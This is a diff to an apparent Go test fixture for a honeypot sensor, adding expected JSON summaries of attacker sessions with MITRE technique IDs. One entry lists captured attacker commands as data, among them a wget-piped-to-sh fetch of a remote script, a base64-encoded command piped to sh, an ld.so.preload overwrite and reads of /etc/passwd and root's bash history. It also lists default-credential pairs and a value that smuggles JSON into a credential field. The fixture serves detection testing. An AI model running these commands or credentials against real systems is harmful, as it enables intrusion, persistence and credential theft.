@@ -290,6 +290,108 @@ var shown = map[string]string{
 		"risk.level": "High",
 		"threat.indicator.description": "127.0.0.25, interactive: 23 events on 1 service of 1 decoy, 1 login attempt (1 successful), 20 commands"
 	}`,
+	"journald": `{
+		"ip": "127.0.0.19",
+		"first_seen": "2026-11-27T22:56:40.794405Z",
+		"last_seen": "2026-11-27T22:56:47.338183Z",
+		"event_count": 29,
+		"services": [
+			"ssh"
+		],
+		"services_interacted": [],
+		"deckies": [
+			"decoy-1"
+		],
+		"login_attempts": 4,
+		"command_count": 0,
+		"spoofable": false,
+		"threat.technique.id": [
+			"T1078",
+			"T1110"
+		],
+		"risk.level": "Moderate",
+		"threat.indicator.description": "127.0.0.19, mixed: 29 events on 1 service of 1 decoy, 4 login attempts (4 successful)",
+		"login_successes": 4
+	}`,
+	"json-syslog": `{
+		"ip": "127.0.0.2",
+		"first_seen": "2026-11-23T23:35:11.415272Z",
+		"last_seen": "2026-11-23T23:53:29.276172Z",
+		"event_count": 96,
+		"services": [
+			"ftp",
+			"ssh",
+			"tftp"
+		],
+		"services_interacted": [
+			"ssh",
+			"tftp"
+		],
+		"deckies": [
+			"decoy-ssh-01",
+			"decoy-office-01"
+		],
+		"login_attempts": 14,
+		"command_count": 18,
+		"spoofable": false,
+		"command.line": [
+			"uname -a",
+			"cat /proc/cpuinfo | grep name | wc -l",
+			"echo -e \"\\x6F\\x6B\"",
+			"/ip cloud print",
+			"nproc; free -m; lscpu",
+			"echo \"root:Gx7pQ2\"|chpasswd|bash",
+			"echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
+			"cat /etc/passwd",
+			"whoami",
+			"ls -la /tmp",
+			"uname -s -v -n -r -m",
+			"cat /proc/mounts; ls -la /dev/shm; wget -qO- http://127.0.0.1:18080/x.sh | sh",
+			"#!/bin/sh\\x0a# harmless sample: what a dropper looks like\\x0acd /tmp || cd /var/run\\x0aecho started",
+			"echo 'evil' > /etc/ld.so.preload",
+			"cat /root/.bash_history",
+			"READ boot.cfg",
+			"WRITE ../../evil\\x1b[0m",
+			"READ r.bin"
+		],
+		"credential.pair": [
+			"admin:admin",
+			"admin:admin123",
+			"anonymous:mozilla@example.com",
+			"oracle:oracle",
+			"root:1234",
+			"root:123456",
+			"root:root",
+			"root:x\",\"src_host\":\"6.6.6.6",
+			"root:xc3511",
+			"test:test",
+			"ubuntu:ubuntu"
+		],
+		"fingerprint.hassh": [
+			"472b5de333ad665af5cbf10ff892c4df",
+			"4c94058d5e9e31659879f79fd5b46084"
+		],
+		"threat.technique.id": [
+			"T1016",
+			"T1027",
+			"T1033",
+			"T1046",
+			"T1059.004",
+			"T1070.003",
+			"T1078",
+			"T1082",
+			"T1083",
+			"T1087.001",
+			"T1098",
+			"T1105",
+			"T1110",
+			"T1140",
+			"T1552.003",
+			"T1574.006"
+		],
+		"risk.level": "Critical",
+		"threat.indicator.description": "127.0.0.2, slow_scan: 96 events on 3 services of 2 decoys, 14 login attempts (9 successful), 18 commands, 2 files"
+	}`,
 }
 
 // shown returns what must be shown of a sensor's attacker, by field.
